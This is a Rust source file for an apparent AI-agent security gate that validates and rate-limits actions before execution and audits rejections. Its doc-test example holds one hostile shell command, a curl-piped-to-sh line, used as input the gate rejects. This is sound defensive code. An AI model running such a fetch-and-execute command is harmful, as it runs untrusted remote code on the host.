//! [`KernelGate`] – single interception point between the decision loop and
//! the outside world.
//!
//! Content headed for memory and every action headed for the executor pass
//! through the gate. For actions it enforces **two independent checks** in
//! order:
//!
//! 1. **Validation** ([`SecurityValidator`]): the action name must be an
//!    identifier and every parameter must pass the rules for the input kind
//!    its name implies. Failures return [`KernelError::Rejected`].
//!
//! 2. **Rate limit** ([`ActionRateLimiter`]): the action type must have a
//!    token left. Failures return [`KernelError::RateLimited`].
//!
//! Every rejection is written to the [`AuditLog`]; it is never stored as a
//! memory record.
//!
//! # Example
//!
//! ```
//! use std::sync::Arc;
//! use mneme_kernel::{AuditLog, KernelGate, SecurityConfig, SecurityValidator};
//! use mneme_types::ActionSpec;
//!
//! let validator = SecurityValidator::with_defaults(SecurityConfig::default()).unwrap();
//! let gate = KernelGate::new(validator, Arc::new(AuditLog::default()));
//!
//! assert!(gate.authorize_action(&ActionSpec::new("click").with_target("#login")).is_ok());
//!
//! let shell = ActionSpec::new("shell").with_param("cmd", "curl x | sh");
//! assert!(gate.authorize_action(&shell).is_err());
//! assert_eq!(gate.audit().security_summary().security_events, 1);
//! ```

use std::sync::Arc;

use mneme_types::{ActionSpec, InputKind, InputValidator, Verdict};
use serde_json::Value;

use crate::KernelError;
use crate::audit::{AuditCategory, AuditLevel, AuditLog, meta};
use crate::rate_limiter::ActionRateLimiter;
use crate::validator::SecurityValidator;

pub struct KernelGate {
    validator: SecurityValidator,
    limiter: Option<ActionRateLimiter>,
    audit: Arc<AuditLog>,
}

impl KernelGate {
    /// Gate without rate limiting.
    pub fn new(validator: SecurityValidator, audit: Arc<AuditLog>) -> Self {
        Self {
            validator,
            limiter: None,
            audit,
        }
    }

    pub fn with_rate_limiter(mut self, limiter: ActionRateLimiter) -> Self {
        self.limiter = Some(limiter);
        self
    }

    pub fn audit(&self) -> &Arc<AuditLog> {
        &self.audit
    }

    /// Validate free-form `input` of the given kind.
    pub fn check_input(&self, input: &str, kind: InputKind) -> Result<(), KernelError> {
        self.validator.verify(input, kind).inspect_err(|e| {
            self.audit.security(
                "validation_failed",
                e.to_string(),
                meta([
                    ("input_kind", Value::String(kind.to_string())),
                    ("input_preview", Value::String(preview(input))),
                ]),
            );
        })
    }

    /// Validate and rate-limit `action` before it is executed.
    pub fn authorize_action(&self, action: &ActionSpec) -> Result<(), KernelError> {
        if let Err(e) = self.validator.validate_action(action) {
            self.audit.security(
                "action_rejected",
                e.to_string(),
                meta([("action", Value::String(action.signature()))]),
            );
            return Err(e);
        }
        if let Some(limiter) = &self.limiter {
            if let Err(e) = limiter.check(&action.action_type) {
                self.audit.record(
                    AuditLevel::Warning,
                    AuditCategory::Authorization,
                    e.to_string(),
                    meta([("action", Value::String(action.signature()))]),
                );
                return Err(e);
            }
        }
        self.audit.record(
            AuditLevel::Info,
            AuditCategory::UserAction,
            format!("action authorized: {action}"),
            meta([("action", Value::String(action.signature()))]),
        );
        Ok(())
    }
}

impl InputValidator for KernelGate {
    fn validate(&self, input: &str, kind: InputKind) -> Verdict {
        match self.check_input(input, kind) {
            Ok(()) => Verdict::allow(),
            Err(e) => Verdict::reject(e.to_string()),
        }
    }
}

fn preview(input: &str) -> String {
    input.chars().take(100).collect()
}
